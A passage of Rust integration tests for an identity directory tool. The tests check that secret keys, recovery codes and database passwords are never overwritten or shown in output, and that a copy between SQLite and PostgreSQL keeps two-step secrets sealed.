    let text = std::fs::read_to_string(&other_key).unwrap();
    assert!(text.trim().len() == 64 && text.trim().bytes().all(|b| b.is_ascii_hexdigit()));
    #[cfg(unix)]
    {
        use std::os::unix::fs::PermissionsExt;
        let mode = std::fs::metadata(&other_key).unwrap().permissions().mode();
        assert_eq!(mode & 0o777, 0o600);
    }
    let again = run(keyward().arg("secret-key").arg(&other_key), "");
    assert_eq!(again.code, Some(1));
    assert!(
        again.stderr.contains("never overwritten"),
        "{}",
        again.stderr
    );
    assert_eq!(std::fs::read_to_string(&other_key).unwrap(), text);
    let mut with_other = keyward_detached();
    with_other
        .args(["users", "list", "--as", "ann", "--db", db.to_str().unwrap()])
        .env("KEYWARD_PASSWORD", crate::common::OTHER_PASSWORD)
        .env("KEYWARD_TOTP_CODE", recovery[2].expose())
        .env("KEYWARD_SECRET_KEY_FILE", &other_key);
    let refused = run(&mut with_other, "");
    assert_eq!(refused.code, Some(1));
    assert!(
        refused.stderr.contains("is not the key"),
        "{}",
        refused.stderr
    );
    // The same on a server.
    let (server, token) = serving(directory, "127.0.0.1:0");
    let url = server.url();
    as_ann(&["--server", &url], Some(recovery[1].expose())).ok();
    let wrong = as_ann(&["--server", &url], Some(recovery[1].expose()));
    assert!(
        !wrong.stderr.contains(recovery[1].expose()),
        "no code in an error"
    );
    assert_eq!(wrong.code, Some(1), "a recovery code signs in once");

    // `users show` says so; an administrator removes it.
    let on_server = |args: &[&str]| {
        run(
            keyward()
                .args(args)
                .args(["--server", &url])
                .env("KEYWARD_TOKEN", token.expose()),
            "",
        )
    };
    let shown = on_server(&["users", "show", "ann"]).ok();
    assert!(shown.stdout.contains("twoStepSignIn"), "{}", shown.stdout);
    assert!(on_server(&["users", "show", "ann", "--json"]).ok().json()["secondFactor"] == true);
    let removed = on_server(&["users", "remove-2fa", "ann"]).ok();
    assert!(
        removed.stdout.contains("Two-step sign-in removed for ann"),
        "{}",
        removed.stdout
    );
    assert_eq!(
        on_server(&["users", "remove-2fa", "ann"]).code,
        Some(1),
        "nothing left to remove"
    );
    as_ann(&["--server", &url], None).ok();
    drop(server);
}

#[test]
fn a_database_password_comes_from_the_url_pgpassword_or_a_file_and_is_never_shown() {
    use crate::common::postgres::{server, ROLE_PASSWORD};
    let url = server().password_database();
    let init = |url: &str, env: &[(&str, &str)]| {
        let mut command = keyward();
        command
            .args(["init", "--db", url])
            .args(["--admin-user", "root", "--admin-email", "root@example.com"])
            .env("KEYWARD_ADMIN_PASSWORD", crate::common::PASSWORD)
            .env_remove("PGPASSWORD")
            .env_remove("KEYWARD_DB_PASSWORD_FILE");
        for (key, value) in env {
            command.env(key, value);
        }
        run(&mut command, "")
    };
    // Without a password the database refuses, in one line, with exit 1.
    let refused = init(&url, &[]);
    assert_eq!(refused.code, Some(1), "{}", refused.stderr);
    assert_eq!(
        refused.stderr.trim().lines().count(),
        1,
        "{}",
        refused.stderr
    );
    assert!(
        refused.stderr.contains("cannot reach the database"),
        "{}",
        refused.stderr
    );
    // A wrong one in the URL: refused, and the password is not repeated.
    let wrong = url.replacen("keyward_pw@", "keyward_pw:Wrong-Pass-77@", 1);
    let refused = init(&wrong, &[]);
    assert_eq!(refused.code, Some(1));
    assert!(
        !refused.stderr.contains("Wrong-Pass-77"),
        "{}",
        refused.stderr
    );
    assert!(
        refused.stderr.contains("keyward_pw:***@"),
        "{}",
        refused.stderr
    );
    // From a file.
    let tmp = tempfile::TempDir::new().unwrap();
    let file = tmp.path().join("db-password");
    std::fs::write(&file, format!("{ROLE_PASSWORD}\n")).unwrap();
    let created = init(
        &url,
        &[("KEYWARD_DB_PASSWORD_FILE", file.to_str().unwrap())],
    )
    .ok();
    assert!(
        created.stdout.contains("Created postgres://keyward_pw@"),
        "{}",
        created.stdout
    );
    // From PGPASSWORD, and from the URL, for the scripting commands.
    let listed = run(
        keyward()
            .args(["users", "list", "--json", "--db", &url])
            .env("KEYWARD_ADMIN_PASSWORD", crate::common::PASSWORD)
            .env("PGPASSWORD", ROLE_PASSWORD),
        "",
    )
    .ok();
    assert_eq!(listed.json()["pageInfo"]["totalElements"], 1);
    let with_password = url.replacen("keyward_pw@", &format!("keyward_pw:{ROLE_PASSWORD}@"), 1);
    let listed = run(
        keyward()
            .args(["users", "list", "--db", &with_password])
            .env("KEYWARD_ADMIN_PASSWORD", crate::common::PASSWORD)
            .env_remove("PGPASSWORD"),
        "",
    )
    .ok();
    assert!(listed.stdout.contains("root"), "{}", listed.stdout);
    for output in [
        &listed.stdout,
        &listed.stderr,
        &created.stdout,
        &created.stderr,
    ] {
        assert!(
            !output.contains(ROLE_PASSWORD),
            "the password was shown: {output}"
        );
    }
}

#[test]
fn an_unreachable_database_is_one_clear_line_and_file_commands_say_what_to_use() {
    let nowhere = "postgres://keyward@127.0.0.1:1/keyward";
    let refused = run(
        keyward()
            .args(["users", "list", "--db", nowhere])
            .env("KEYWARD_ADMIN_PASSWORD", "x"),
        "",
    );
    assert_eq!(refused.code, Some(1), "{}", refused.stderr);
    assert_eq!(
        refused.stderr.trim().lines().count(),
        1,
        "{}",
        refused.stderr
    );
    assert!(
        refused.stderr.starts_with(
            "error: cannot reach the database at postgres://keyward@127.0.0.1:1/keyward"
        ),
        "{}",
        refused.stderr
    );
    for args in [
        &["backup", "out.db"][..],
        &["check"][..],
        &["restore", "in.db"][..],
    ] {
        let usage = run(keyward().args(args).args(["--db", nowhere]), "");
        assert_eq!(usage.code, Some(2), "{args:?}: {}", usage.stderr);
        assert!(usage.stderr.contains("pg_dump"), "{}", usage.stderr);
    }
}

#[test]
fn copy_moves_a_whole_directory_to_postgresql_and_back_to_a_new_file() {
    use keyward::core::directory::Directory;
    use keyward::core::model::*;
    use keyward::store::{PostgresDirectory, SqliteDirectory};
    let tmp = tempfile::TempDir::new().unwrap();
    let file = initialised(&tmp);
    let secret = {
        let dir = SqliteDirectory::open(&file).unwrap();
        let root = Credential::Session(
            dir.sign_in("root", &crate::common::secret(crate::common::PASSWORD))
                .unwrap()
                .access_token,
        );
        let role = dir
            .create_role(
                &root,
                NewRole {
                    name: "Helpdesk".into(),
                    description: "first line".into(),
                    permissions: keyward::core::permission::BuiltinRole::Viewer.permissions(),
                },
            )
            .unwrap();
        let ann = dir
            .create_user(
                &root,
                NewUser {
                    user_name: "ann".into(),
                    display_name: "Ann".into(),
                    email: "ann@example.com".into(),
                    password: Some(crate::common::secret(crate::common::OTHER_PASSWORD)),
                    roles: vec![
                        role.id.clone(),
                        keyward::core::permission::BuiltinRole::Operator.id().into(),
                    ],
                    ..Default::default()
                },
            )
            .unwrap()
            .user;
        dir.create_group(
            &root,
            NewGroup {
                name: "Ops".into(),
                members: vec![ann.id.clone()],
                ..Default::default()
            },
        )
        .unwrap();
        let root_id = dir.me(&root).unwrap().id;
        dir.create_user(
            &root,
            NewUser {
                user_name: "tom".into(),
                display_name: "Tom".into(),
                email: "tom@example.com".into(),
                password: Some(crate::common::secret(crate::common::PASSWORD)),
                roles: vec![keyward::core::permission::BuiltinRole::Viewer.id().into()],
                ..Default::default()
            },
        )
        .unwrap();
        let second = crate::common::turn_on_second_factor(&dir, "tom", chrono::Utc::now());
        let key = dir
            .create_key(&root, &root_id, crate::common::key_named("deploy"))
            .unwrap()
            .secret
            .unwrap();
        (key, second)
    };
    let (secret, (totp, recovery)) = secret;
    // Tom's second step: the file's key opens it wherever the directory goes.
    let file_key = tmp.path().join("team.db.key");
    let tom_signs_in = |dir: &dyn Directory, code: &keyward::core::secret::Secret| {
        let step = dir.start_sign_in("tom", &crate::common::secret(crate::common::PASSWORD))?;
        let SignInStep::SecondFactor(challenge) = step else {
            panic!("a second step: {step:?}")
        };
        dir.finish_sign_in(&challenge.challenge_token, code)
    };
    let file_audit: i64 = rusqlite::Connection::open(&file)
        .unwrap()
        .query_row("SELECT count(*) FROM audit_log", [], |r| r.get(0))
        .unwrap();
    let url = crate::common::postgres::server().new_database();
    let copied = run(
        keyward().args(["copy", "--from", file.to_str().unwrap(), "--to", &url]),
        "",
    )
    .ok();
    assert!(copied.stdout.contains("Copied"), "{}", copied.stdout);
    assert!(
        copied
            .stdout
            .contains(&format!("{file_audit} audit entries")),
        "{}",
        copied.stdout
    );
    assert!(copied.stdout.contains("3 users"), "{}", copied.stdout);
    assert!(
        copied.stdout.contains("1 two-step sign-ins (sealed)"),
        "{}",
        copied.stdout
    );
    let database_audit = || -> i64 {
        postgres::Client::connect(&url, postgres::NoTls)
            .unwrap()
            .query_one("SELECT count(*) FROM audit_log", &[])
            .unwrap()
            .get(0)
    };
    assert_eq!(database_audit(), file_audit);
    {
        let dir = PostgresDirectory::connect(&url, &Default::default()).unwrap();
        let ann = dir
            .sign_in("ann", &crate::common::secret(crate::common::OTHER_PASSWORD))
            .expect("the old password signs in");
        assert_eq!(ann.user.roles.len(), 2);
        assert_eq!(ann.user.groups.len(), 1);
        let verified = dir.verify_key(secret.expose()).unwrap();
        assert_eq!(verified.code, VerifyCode::Valid, "the old key verifies");
        let audit = dir
            .list_audit(
                &Credential::Session(ann.access_token),
                &AuditQuery::default(),
            )
            .unwrap();
        assert!(audit.items.iter().any(|e| e.action == "directory.setup"));
        // New entries follow the copied ones.
        assert!(audit.items[0].id > file_audit, "{:?}", audit.items[0]);
        // Without the key, Tom cannot sign in and is told why; with the file's, he can.
        let refused = tom_signs_in(&dir, &recovery[0]).unwrap_err();
        assert!(
            refused.to_string().contains("KEYWARD_SECRET_KEY_FILE"),
            "{refused}"
        );
        let dir = dir.with_keyring(keyward::core::sealing::Keyring::file(&file_key, false));
        tom_signs_in(&dir, &recovery[0]).expect("the file's key opens the copied secret");
    }
    // Nothing of it is in the database in clear.
    let dump = std::process::Command::new(crate::common::postgres::server().bin().join("pg_dump"))
        .args(["--data-only", &url])
        .output()
        .unwrap();
    assert!(dump.status.success());
    let raw = totp_rs::Secret::try_from_base32(totp.secret.expose())
        .unwrap()
        .as_bytes()
        .to_vec();
    let hex: String = raw.iter().map(|b| format!("{b:02x}")).collect();
    let text = String::from_utf8_lossy(&dump.stdout);
    assert!(text.contains("tom@example.com"));
    for needle in [totp.secret.expose(), &hex, recovery[1].expose()] {
        assert!(
            !text.contains(needle),
            "a two-step secret in clear in pg_dump"
        );
    }
    // A target with a directory in it is refused, and keeps what it had.
    let again = run(
        keyward().args(["copy", "--from", file.to_str().unwrap(), "--to", &url]),
        "",
    );
    assert_eq!(again.code, Some(1), "{}", again.stderr);
    assert!(
        again.stderr.contains("holds a directory already"),
        "{}",
        again.stderr
    );
    // And back, to a new file for an offline copy.
    let back = tmp.path().join("offline.db");
    let copied = run(
        keyward().args(["copy", "--from", &url, "--to", back.to_str().unwrap()]),
        "",
    )
    .ok();
    assert!(
        copied.stdout.contains("Copied postgres://"),
        "{}",
        copied.stdout
    );
    let dir = SqliteDirectory::open(&back).unwrap();
    dir.sign_in("ann", &crate::common::secret(crate::common::OTHER_PASSWORD))
        .expect("the password signs in on the offline copy");
    let copied_bytes = std::fs::read(&back).unwrap();
    assert!(!copied_bytes.windows(raw.len()).any(|w| w == raw.as_slice()));
    let missing = tom_signs_in(&dir, &recovery[1]).unwrap_err();
    assert!(
        missing.to_string().contains("offline.db.key is missing"),
        "{missing}"
    );
    assert!(
        !tmp.path().join("offline.db.key").exists(),
        "no new key in its place"
    );
    std::fs::copy(&file_key, tmp.path().join("offline.db.key")).unwrap();
    let dir = SqliteDirectory::open(&back).unwrap();
    tom_signs_in(&dir, &recovery[1]).expect("with the key beside it");
    assert_eq!(
        dir.verify_key(secret.expose()).unwrap().code,
        VerifyCode::Valid
    );
    let exists = run(
        keyward().args(["copy", "--from", &url, "--to", back.to_str().unwrap()]),
        "",
    );
    assert_eq!(exists.code, Some(1));
    assert!(
        exists.stderr.contains("exists already"),
        "{}",
        exists.stderr
    );
}
